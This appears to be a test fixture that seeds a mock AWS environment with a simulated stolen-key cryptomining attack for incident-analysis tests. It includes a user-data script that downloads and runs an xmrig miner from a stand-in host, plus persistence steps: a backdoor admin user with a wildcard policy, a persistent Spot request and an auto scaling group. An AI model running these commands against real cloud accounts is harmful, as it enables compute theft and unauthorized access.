/**
 * Seeds moto with one stolen-key cryptomining attack for the analysis tests: a victim user
 * whose key the attacker uses, miners in three regions (one stopped, one in an Auto Scaling
 * group), a key pair, an AMI, a snapshot, a persistent Spot request and a backdoor admin
 * user; plus control resources that a legitimate team made, which must never be attributed.
 */
import {
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreatePolicyCommand,
  CreateUserCommand,
} from '@aws-sdk/client-iam';
import { CreateAutoScalingGroupCommand } from '@aws-sdk/client-auto-scaling';
import {
  CreateImageCommand,
  CreateKeyPairCommand,
  CreateLaunchTemplateCommand,
  CreateSnapshotCommand,
  DescribeImagesCommand,
  DescribeInstancesCommand,
  DescribeSpotInstanceRequestsCommand,
  RequestSpotInstancesCommand,
  RunInstancesCommand,
  StopInstancesCommand,
  AllocateAddressCommand,
  AssociateAddressCommand,
  AttachNetworkInterfaceCommand,
  CreateNetworkInterfaceCommand,
} from '@aws-sdk/client-ec2';
import { AwsClients } from '../../../tooling/aws/clients';
import { MOTO_CREDENTIALS } from '../../../dev/moto';

/** moto's default account. */
export const ACCOUNT_ID = '123456789012';
export const ATTACKER_REGIONS = ['us-east-1', 'eu-west-1', 'ap-southeast-2'] as const;
export const MINER_USER_DATA = '#!/bin/bash\ncurl -s http://203.0.113.7/xmrig -o /tmp/x && chmod +x /tmp/x\n/tmp/x -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbC\n';

export interface SeededAttack {
  readonly window: { start: Date; end: Date };
  readonly victim: { userName: string; arn: string; accessKeyId: string };
  readonly backdoor: { userName: string; accessKeyId: string; policyArn: string };
  /** Attacker instances by region; ap-southeast-2's is stopped, us-east-1 also has an ASG one. */
  readonly minerInstances: Record<(typeof ATTACKER_REGIONS)[number], string>;
  readonly asgInstance: string;
  /** Elastic IP allocation on the us-east-1 miner. */
  readonly eipAllocationId: string;
  /** Second ENI on the eu-west-1 miner. */
  readonly secondEni: string;
  readonly asgName: string;
  readonly spotRequestId: string;
  readonly spotInstanceId: string;
  readonly imageId: string;
  readonly snapshotId: string;
  /** Volume of the eu-west-1 miner that the attacker snapshotted. */
  readonly euVolume: string;
  readonly keyName: string;
  readonly control: { keyName: string; instanceBeforeWindow: string; instanceInWindow: string; userName: string };
}

/** Clients for seeding (the code under test gets its own). */
export function motoClients(endpoint: string): AwsClients {
  return new AwsClients({ endpoint, credentials: MOTO_CREDENTIALS, maxAttempts: 2 });
}

const imageCache = new Map<string, string>();

// DescribeImages over moto's whole Amazon catalogue is slow: once per region.
async function amazonImage(clients: AwsClients, region: string): Promise<string> {
  const cached = imageCache.get(region);
  if (cached) return cached;
  const out = await clients.ec2(region).send(new DescribeImagesCommand({ Owners: ['amazon'], MaxResults: 5 }));
  const id = out.Images?.find((i) => i.ImageId)?.ImageId;
  if (!id) throw new Error(`moto has no Amazon AMI in ${region}`);
  imageCache.set(region, id);
  return id;
}

async function launch(clients: AwsClients, region: string, input: { keyName?: string; userData?: string; tags?: Record<string, string> }): Promise<string> {
  const out = await clients.ec2(region).send(
    new RunInstancesCommand({
      ImageId: await amazonImage(clients, region),
      InstanceType: 'c5.4xlarge',
      MinCount: 1,
      MaxCount: 1,
      KeyName: input.keyName,
      UserData: input.userData ? Buffer.from(input.userData).toString('base64') : undefined,
      TagSpecifications: input.tags
        ? [{ ResourceType: 'instance', Tags: Object.entries(input.tags).map(([Key, Value]) => ({ Key, Value })) }]
        : undefined,
    }),
  );
  const id = out.Instances?.[0]?.InstanceId;
  if (!id) throw new Error(`RunInstances in ${region} returned no instance`);
  return id;
}

async function createUserWithKey(clients: AwsClients, userName: string): Promise<{ arn: string; accessKeyId: string }> {
  const user = await clients.iam().send(new CreateUserCommand({ UserName: userName }));
  const key = await clients.iam().send(new CreateAccessKeyCommand({ UserName: userName }));
  return { arn: user.User?.Arn ?? '', accessKeyId: key.AccessKey?.AccessKeyId ?? '' };
}

/** Wait until the wall clock has moved past the current second (moto stamps whole seconds). */
async function nextSecond(): Promise<Date> {
  const next = Math.floor(Date.now() / 1000) * 1000 + 1000;
  await new Promise((r) => setTimeout(r, next - Date.now() + 20));
  return new Date(next);
}

/** Seed the attack; returns every ID a test asserts on. */
export async function seedAttack(endpoint: string): Promise<SeededAttack> {
  const c = motoClients(endpoint);

  // Before the window: the platform team's key pair and server, a CI user, and the victim user.
  await c.ec2('us-east-1').send(new CreateKeyPairCommand({ KeyName: 'ops-deploy' }));
  const instanceBeforeWindow = await launch(c, 'us-east-1', { keyName: 'ops-deploy', tags: { Owner: 'platform-team' } });
  await createUserWithKey(c, 'ci-deployer');
  const victim = await createUserWithKey(c, 'svc-build');

  const start = await nextSecond();

  // In the window: the attacker, using svc-build's key.
  const keyName = 'miner-key';
  for (const region of ATTACKER_REGIONS) await c.ec2(region).send(new CreateKeyPairCommand({ KeyName: keyName }));
  const minerInstances = {
    'us-east-1': await launch(c, 'us-east-1', { keyName, userData: MINER_USER_DATA }),
    'eu-west-1': await launch(c, 'eu-west-1', { keyName, userData: MINER_USER_DATA }),
    'ap-southeast-2': await launch(c, 'ap-southeast-2', { keyName, userData: MINER_USER_DATA }),
  };
  await c.ec2('ap-southeast-2').send(new StopInstancesCommand({ InstanceIds: [minerInstances['ap-southeast-2']] }));

  // An Elastic IP on the us-east-1 miner and a second ENI on the eu-west-1 one: containment needs both.
  const eip = await c.ec2('us-east-1').send(new AllocateAddressCommand({ Domain: 'vpc' }));
  await c.ec2('us-east-1').send(new AssociateAddressCommand({ AllocationId: eip.AllocationId, InstanceId: minerInstances['us-east-1'] }));
  const euFirst = await c.ec2('eu-west-1').send(new DescribeInstancesCommand({ InstanceIds: [minerInstances['eu-west-1']] }));
  const eni = await c.ec2('eu-west-1').send(new CreateNetworkInterfaceCommand({ SubnetId: euFirst.Reservations?.[0]?.Instances?.[0]?.SubnetId }));
  await c.ec2('eu-west-1').send(
    new AttachNetworkInterfaceCommand({ NetworkInterfaceId: eni.NetworkInterface?.NetworkInterfaceId, InstanceId: minerInstances['eu-west-1'], DeviceIndex: 1 }),
  );

  const template = await c.ec2('us-east-1').send(
    new CreateLaunchTemplateCommand({
      LaunchTemplateName: 'miner-lt',
      LaunchTemplateData: { ImageId: await amazonImage(c, 'us-east-1'), InstanceType: 'c5.4xlarge', KeyName: keyName },
    }),
  );
  const asgName = 'miner-asg';
  await c.autoScaling('us-east-1').send(
    new CreateAutoScalingGroupCommand({
      AutoScalingGroupName: asgName,
      LaunchTemplate: { LaunchTemplateId: template.LaunchTemplate?.LaunchTemplateId, Version: '$Latest' },
      MinSize: 1,
      MaxSize: 1,
      DesiredCapacity: 1,
      AvailabilityZones: ['us-east-1a'],
    }),
  );
  const asgReservations = await c
    .ec2('us-east-1')
    .send(new DescribeInstancesCommand({ Filters: [{ Name: 'tag:aws:autoscaling:groupName', Values: [asgName] }] }));
  const asgInstance = asgReservations.Reservations?.[0]?.Instances?.[0]?.InstanceId ?? '';

  const image = await c.ec2('us-east-1').send(new CreateImageCommand({ InstanceId: minerInstances['us-east-1'], Name: 'miner-golden' }));
  const euMiner = await c.ec2('eu-west-1').send(new DescribeInstancesCommand({ InstanceIds: [minerInstances['eu-west-1']] }));
  const euVolume = euMiner.Reservations?.[0]?.Instances?.[0]?.BlockDeviceMappings?.[0]?.Ebs?.VolumeId ?? '';
  const snapshot = await c.ec2('eu-west-1').send(new CreateSnapshotCommand({ VolumeId: euVolume, Description: 'backup' }));

  const spot = await c.ec2('eu-west-1').send(
    new RequestSpotInstancesCommand({
      Type: 'persistent',
      InstanceCount: 1,
      LaunchSpecification: { ImageId: await amazonImage(c, 'eu-west-1'), InstanceType: 'c5.4xlarge', KeyName: keyName },
    }),
  );
  const spotRequestId = spot.SpotInstanceRequests?.[0]?.SpotInstanceRequestId ?? '';
  const fulfilled = await c.ec2('eu-west-1').send(new DescribeSpotInstanceRequestsCommand({ SpotInstanceRequestIds: [spotRequestId] }));
  const spotInstanceId = fulfilled.SpotInstanceRequests?.[0]?.InstanceId ?? '';

  const backdoorKey = await createUserWithKey(c, 'backup-admin');
  // moto loads AWS managed policies only on request (slow); a customer-managed admin policy is what attackers create anyway.
  const policy = await c.iam().send(
    new CreatePolicyCommand({
      PolicyName: 'ops-admin',
      PolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }),
    }),
  );
  const policyArn = policy.Policy?.Arn ?? '';
  await c.iam().send(new AttachUserPolicyCommand({ UserName: 'backup-admin', PolicyArn: policyArn }));
  await c.iam().send(new CreateLoginProfileCommand({ UserName: 'backup-admin', Password: 'Sup3r-s3cret-pw!' }));

  // Also in the window: a platform engineer launches a server with the team's older key pair.
  const instanceInWindow = await launch(c, 'us-east-1', { keyName: 'ops-deploy', tags: { Owner: 'platform-team' } });

  return {
    window: { start, end: new Date(Date.now() + 60_000) },
    victim: { userName: 'svc-build', ...victim },
    backdoor: { userName: 'backup-admin', accessKeyId: backdoorKey.accessKeyId, policyArn },
    minerInstances,
    asgInstance,
    eipAllocationId: eip.AllocationId ?? '',
    secondEni: eni.NetworkInterface?.NetworkInterfaceId ?? '',
    asgName,
    spotRequestId,
    spotInstanceId,
    imageId: image.ImageId ?? '',
    snapshotId: snapshot.SnapshotId ?? '',
    euVolume,
    keyName,
    control: { keyName: 'ops-deploy', instanceBeforeWindow, instanceInWindow, userName: 'ci-deployer' },
  };
}
